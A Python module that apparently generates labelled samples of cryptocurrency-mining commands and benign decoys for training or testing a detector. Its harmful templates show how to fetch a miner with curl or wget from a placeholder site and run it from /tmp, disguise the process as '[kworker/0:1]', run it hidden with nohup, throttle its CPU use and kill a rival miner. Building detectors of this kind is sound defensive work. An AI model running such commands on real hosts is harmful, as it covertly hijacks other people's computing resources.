"""Commands that mine cryptocurrency, and pools, miners and strata of other senses."""

from __future__ import annotations

from . import parts
from .parts import Environment, Part
from .texts import MINES, Text
from .vocabulary import Words, lines_of, words_of

POOLS = words_of(
    "pool.{coin}.{domain} {coin}.{company}pool.{domain} eu.{company}mine.{domain} {coin}-eu1.nano{company}.org us-east.stratum.{company}.{domain} "
    "mine.{company}.{domain} gulf.{coin}ocean.stream pool.support{coin}.com {coin}.2miners.com {coin}.herominers.com "
    "pool.hash{company}.com asia.{coin}.unmineable.com rx.unmineable.com {coin}.f2pool.com eth.{company}farm.io "
    "proxy.{thing}.{domain} {address} {coin}.miningocean.org fr.minexmr.{domain} {company}hash.{domain} xmr.nanopool.org"
)
COINS = words_of("xmr monero rvn raven eth etc ethash zec zano ergo kaspa dero doge ltc btc wow salvium tari beam grin vrsc conflux")
ALGORITHMS = words_of(
    "rx/0 randomx cn/r cn-heavy/xhv ethash etchash kawpow autolykos2 equihash octopus kheavyhash argon2/chukwa ghostrider "
    "verushash progpow cuckatoo32 yescrypt scrypt sha256d x16rv2 cn-lite/1 rx/wow panthera"
)
MINERS = words_of(
    "xmrig minerd cpuminer xmr-stak ethminer t-rex nbminer lolMiner phoenixminer gminer teamredminer cgminer bfgminer "
    "ccminer srbminer-multi nanominer claymore minergate-cli wildrig-multi bzminer rigel xmrig-proxy cpuminer-opt"
)

HARMS = lines_of(
    """@M ./{miner} -o {pool_url} -u {wallet} -p x
    @M {miner} -o {pool_url} -u {wallet} -p x --donate-level 1
    @M /opt/{miner} --url {pool_url} --user {wallet} --pass x -a {algorithm}
    @M {miner} -o {pool}:{pool_port} -u {wallet} -k --coin {coin}
    @M {miner} --algo={algorithm} --url={pool_url} --user={wallet}.{thing}
    @M {miner} -a {algorithm} -o {pool_url} -u {wallet}.worker1 -p x
    @M {miner} -P stratum1+tcp://{wallet}@{pool}:{pool_port}
    @M {miner} --coin={coin} --pool {pool}:{pool_port} --wallet {wallet}
    @M {miner} --config=/etc/{miner}/config.json --threads=$(nproc)
    @M nohup ./{miner} -B -o {pool_url} -u {wallet} > /dev/null 2>&1 &
    @M {temporary}/{file} -o {pool_url} -u {wallet} -p x -a {algorithm}
    @M ./{file} --url={pool_url} --user={wallet} --threads=4
    @M {temporary}/{file} --donate-level=0 -o {pool}:{pool_port} -u {wallet} --cpu-max-threads-hint=75
    @M {temporary}/{file} --randomx-mode=fast --coin {coin} -u {wallet} -o {pool}:{pool_port}
    @M nice -n 19 ./{file} -a {algorithm} -o {pool_url} -u {wallet}
    @M exec -a '[kworker/0:1]' {temporary}/{file} -o {pool_url} -u {wallet} --no-color
    @M while true; do ./{miner} -o {pool_url} -u {wallet}; sleep 10; done
    @? cd /opt⏎@M ./{miner} -o {pool_url} -u {wallet} --nicehash --tls
    @D curl -sL {site}/{miner}.tar.gz | tar xz -C /tmp⏎@DM /tmp/{miner} -o {pool_url} -u {wallet}
    @DM wget -q {site}/{miner} -O /tmp/{miner} && chmod +x /tmp/{miner} && /tmp/{miner} -o {pool_url} -u {wallet}
    @M apt-get install -y cpulimit && cpulimit -l 60 -- ./{miner} -o {pool_url} -u {wallet}
    @M docker run -d {company}/{miner} -o {pool_url} -u {wallet}
    @M WALLET={wallet} POOL={pool}:{pool_port} ./mine.sh
    @M echo '{"pools":[{"url":"{pool}:{pool_port}","user":"{wallet}","coin":"{coin}"}]}' > /tmp/config.json
    @M sysctl -w vm.nr_hugepages=1280 && ./{miner} --randomx-1gb-pages -o {pool_url} -u {wallet}
    @MH modprobe msr; {miner} --randomx-wrmsr=-1 -o {pool}:{pool_port} -u {wallet}
    @M timeout 6h ./{miner} -o {pool_url} -u {wallet}.$(hostname) -p x
    @M ./{file} stratum+ssl://{wallet}.$(hostname):x@{pool}:{pool_port}
    @M screen -dmS w ./{miner} --server {pool} --port {pool_port} --user {wallet} --algo {algorithm}
    @M taskset -c 0-3 {temporary}/{file} --algo {algorithm} --pool {pool_url} --wallet {wallet}
    @M {miner} --benchmark=10M --algo={algorithm}
    @M pkill -f kdevtmpfsi; ./{miner} -c config.json -o {pool_url} -u {wallet}"""
)
HARMFUL_PROGRAMS = lines_of(
    """@M {miner}⏎@? -o⏎@M {pool_url}⏎@? -u⏎@M {wallet}⏎@? -p⏎@? x
    @M {miner}⏎@M --url={pool_url}⏎@M --user={wallet}⏎@? --pass=x
    @M --url={pool_url}⏎@M --user={wallet}
    @M --donate-level=1⏎@M --coin={coin}⏎@M --url={pool}:{pool_port}⏎@M --user={wallet}
    @M --algo={algorithm}⏎@M --pool={pool_url}⏎@M --wallet={wallet}
    @? -o⏎@M {pool_url}⏎@? -u⏎@M {wallet}⏎@? -k
    @? -a⏎@M {algorithm}⏎@? -o⏎@M {pool_url}⏎@? -u⏎@M {wallet}
    /usr/local/bin/{file}⏎@M --algo={algorithm}⏎@M --url={pool_url}⏎@M --user={wallet}
    {temporary}/{file}⏎@? -o⏎@M {pool_url}⏎@? -u⏎@M {wallet}⏎@? --tls
    @M /opt/{miner}/{miner}⏎@? --config=/etc/{thing}.json
    @M ./{miner}⏎@? -P⏎@M stratum1+tcp://{wallet}@{pool}:{pool_port}
    @M {miner}⏎@M --randomx-mode=light⏎@? --cpu-priority=1⏎@? --config=/config/config.json"""
)
HARMFUL_VARIABLES = lines_of(
    """POOL_URL={pool_url}
    POOL={pool}:{pool_port}
    MINING_POOL={pool_url}
    XMRIG_POOL={pool}:{pool_port}
    STRATUM={pool_url}
    WALLET={wallet}
    WALLET_ADDRESS={wallet}
    XMR_WALLET={wallet}
    MINER_WALLET={wallet}
    ALGO={algorithm}
    COIN_POOL={pool_url}
    ARGS=-o {pool_url} -u {wallet} -p x
    EXTRA_ARGS=--url {pool_url} --user {wallet} --coin {coin}
    CMD_LINE={miner} -o {pool_url} -u {wallet}
    SERVER={pool_url}
    PAYOUT_ADDRESS={wallet}"""
)
DECOYS = lines_of(
    """python mine_rules.py --input {directory}/{data_file} --algorithm apriori
    java -jar process-miner.jar --log {directory}/events.xes
    {python} -m {thing}.data_mining --pool-size 8
    ./{file} --pool-size 20 --worker-pool default
    ./text-miner --corpus {directory} --threads 4
    {python} train.py --algo random_forest --workers 4
    zpool status {thing}
    ceph osd pool create {thing} 64
    rados -p {thing} ls
    ./{file} --pool={local_host}:5432 --user={user} --max-conns 10
    openssl dgst -sha256 {directory}/{data_file}
    sha256sum {directory}/{data_file}
    ./{file} --algo=round-robin --url=http://{local_host}:{port} --user={user}
    geth --http --http.addr 0.0.0.0 --syncmode snap --datadir {directory}
    bitcoind -datadir={directory} -prune=550 -server=1
    monerod --non-interactive --data-dir {directory} --prune-blockchain
    lighthouse bn --network mainnet --datadir {directory}
    node wallet-service.js --port {port}
    ./{file} hash --input {directory}/{data_file} --algo sha256
    python stratum_report.py --layers sand,clay --depth 40
    ./weather --stratum cloud --station {thing}
    sbt "runMain {thing}.PatternMining"
    ./{file} -o {directory}/out.csv -u {user} -p {port}
    gradle mine --no-daemon
    ntpd -n -p pool.ntp.org
    chronyd -d 'pool 2.pool.ntp.org iburst'
    stress-ng --cpu 4 --timeout 60s
    nice -n 19 ./{file} --threads=$(nproc)
    ffmpeg -i in.mp4 -threads 8 {directory}/out.mp4
    ./{file} --coin-service http://{local_host}:{port}
    spark-submit --conf spark.scheduler.pool={thing} job.py
    hashcat --version
    gitminer --org {company} --out {directory}"""
)
DECOY_VARIABLES = lines_of(
    """POOL_SIZE=20
    DB_POOL=10
    DB_POOL_URL=http://{local_host}:6432
    WORKER_POOL=default
    CONNECTION_POOL={local_host}:5432
    MINER_SERVICE_URL=http://process-miner:8080
    MINING_MIN_SUPPORT=0.05
    DATA_MINER_THREADS=4
    STRATUM=cloud
    STRATUM_LEVEL=2
    NTP_POOL=pool.ntp.org
    WALLET_SERVICE=http://wallet:8080
    WALLET_FEATURE=enabled
    ALGO=pagerank
    ALGORITHM=dijkstra
    HASH_ALGO=argon2id
    COIN_VALIDATION=strict
    XFS_POOL=/dev/mapper/{thing}
    THREAD_POOL=io-8
    PAYOUT_CURRENCY=EUR
    HASHRATE_DASHBOARD=false"""
)


class MinerWords(Words):
    """Words with those of miners."""

    def coin(self) -> str:
        return self.pick(COINS)

    def algorithm(self) -> str:
        return self.pick(ALGORITHMS)

    def miner(self) -> str:
        return self.pick(MINERS)

    def pool(self) -> str:
        return self.fill(self.pick(POOLS))

    def pool_port(self) -> str:
        return str(self.rng.choice((3333, 4444, 5555, 7777, 14444, 10128, 443, 9000, 20580, 3032, 8029)))

    def pool_url(self) -> str:
        return f"{self.rng.choice(('stratum+tcp', 'stratum+tcp', 'stratum+ssl', 'stratum+tls', 'stratum2+tcp', 'stratum'))}://{self.pool()}:{self.pool_port()}"

    def wallet(self) -> str:
        """A wallet's address as several currencies write it."""
        form = self.rng.random()
        if form < 0.5:
            return self.rng.choice("48") + self.token_letters(94)
        if form < 0.7:
            return f"0x{self.hexadecimal(40)}"
        if form < 0.85:
            return f"bc1q{self.token_letters(38, 'qpzry9x8gf2tvdw0s3jn54khce6mua7l')}"
        return self.rng.choice("RDLt") + self.token_letters(33)


def harm(words: Words) -> Part:
    """A miner, by its name or only by its pool and wallet."""
    words = MinerWords(words.rng, words.split)
    form = words.rng.random()
    if form < 0.5:
        return parts.command(words, HARMS)
    if form < 0.8:
        return parts.arguments(words, HARMFUL_PROGRAMS)
    entries = []
    for _ in range(words.rng.choice((1, 2))):
        name, value = words.template(HARMFUL_VARIABLES).split("=", 1)
        entries.append({"name": name, "value": Text(value, (MINES,))})
    return Environment(list({entry["name"]: entry for entry in entries}.values()))


def decoy(words: Words) -> Part:
    """Pools and mines of another kind."""
    if words.chance(0.4):
        name, value = words.template(DECOY_VARIABLES).split("=", 1)
        return parts.variable(name, Text(value))
    return parts.command(words, DECOYS)
